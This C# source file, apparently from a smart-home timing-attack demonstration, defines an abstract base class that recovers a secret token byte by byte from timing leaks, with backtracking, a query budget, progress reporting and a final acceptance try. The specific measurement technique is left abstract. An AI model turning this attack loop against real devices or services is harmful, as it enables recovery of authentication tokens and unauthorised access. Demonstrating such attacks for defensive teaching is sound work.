using System.Diagnostics;

namespace SmartHome.TimingDemo;

/// <summary>
/// The byte-by-byte loop every technique shares: warm up, decide byte 0, 1, ... from what the oracle leaks, stop at the
/// first byte without a significant leak (after going back once to re-decide the byte before it: a wrong byte there
/// leaves nothing to find here) or when the time budget is used up, then try the whole token once.
/// How one byte is decided is the technique's (<see cref="DecideByte"/>).
/// </summary>
public abstract class PrefixRecoverer(RecoveryOptions options)
{
    private long _queries;
    private int _decided;
    private Stopwatch _clock = new();
    private TimeBudget _budget = TimeBudget.Unlimited();
    private Action<AttackProgress>? _onProgress;

    protected RecoveryOptions Options { get; } = options;

    protected abstract int TokenLength { get; }

    protected TimeBudget Budget => _budget;

    public RecoveryResult Recover(TimeBudget? budget = null, Action<ByteResult>? onByte = null, Action<AttackProgress>? onProgress = null)
    {
        _budget = budget ?? TimeBudget.Unlimited();
        _onProgress = onProgress;
        _clock = Stopwatch.StartNew();
        _queries = 0;
        _decided = 0;
        var rng = new Random(Options.Seed);
        var length = TokenLength;
        var known = new byte[length];
        var latest = new ByteResult?[length];
        var attempts = new List<ByteResult>();

        CountQueries(Warmup(rng));
        var complete = true;
        var outOfTime = false;
        var backtracks = 0;
        var pos = 0;
        while (pos < length)
        {
            if (_budget.IsExhausted)
            {
                complete = false;
                outOfTime = true;
                break;
            }

            var r = DecideByte(known, pos, rng);
            attempts.Add(r);
            latest[pos] = r;
            onByte?.Invoke(r);
            known[pos] = r.Value;
            if (r.OutOfTime)
            {
                complete = false;
                outOfTime = true;
                break;
            }

            if (!r.Significant && Options.StopOnFailure && pos > 0 && backtracks < Options.MaxBacktracks)
            {
                backtracks++;
                pos--; // re-decide the byte before on fresh samples, then come back here
                _decided = pos;
                continue;
            }

            if (!r.Significant)
            {
                complete = false;
                if (Options.StopOnFailure)
                {
                    break;
                }
            }

            pos++;
            _decided = LeadingSignificant(latest);
            Report();
        }

        var accepted = false;
        if (complete)
        {
            accepted = Accepts(known); // one try to see if the door opens
            CountQueries(QueriesPerTry);
        }

        // Only the leading bytes that were significant count as recovered; a non-significant guess is no claim.
        var decided = LeadingSignificant(latest);
        var recovered = known.AsSpan(0, decided).ToArray();
        _decided = decided;
        Report();
        return new RecoveryResult(attempts, recovered, complete, accepted, _queries, _clock.Elapsed) { OutOfTime = outOfTime };
    }

    /// <summary>Queries with random tokens so that JIT, caches and both ends of a connection settle; returns how many.</summary>
    protected abstract long Warmup(Random rng);

    /// <summary>Decides byte <paramref name="pos"/> after the <paramref name="known"/> prefix; calls <see cref="CountQueries"/> as it goes.</summary>
    protected abstract ByteResult DecideByte(byte[] known, int pos, Random rng);

    /// <summary>Queries <see cref="Accepts"/> makes.</summary>
    protected virtual int QueriesPerTry => 1;

    /// <summary>Presents the whole token once: does the oracle accept it?</summary>
    protected abstract bool Accepts(byte[] token);

    /// <summary>Adds queries to the running total (the progress line and the OTel counter).</summary>
    protected void CountQueries(long queries)
    {
        _queries += queries;
        TimingMetrics.AttackQueries.Add(queries);
    }

    /// <summary>Tells the observer where the attack stands (bytes decided, queries, time left).</summary>
    protected void Report()
    {
        if (_onProgress is null)
        {
            return;
        }

        var elapsed = _clock.Elapsed;
        _onProgress(new AttackProgress(_decided, TokenLength, _queries, elapsed,
            AttackProgress.Estimate(_decided, TokenLength, elapsed, _budget.Remaining)));
    }

    private static int LeadingSignificant(ByteResult?[] latest)
    {
        var n = 0;
        while (n < latest.Length && latest[n] is { Significant: true })
        {
            n++;
        }

        return n;
    }
}
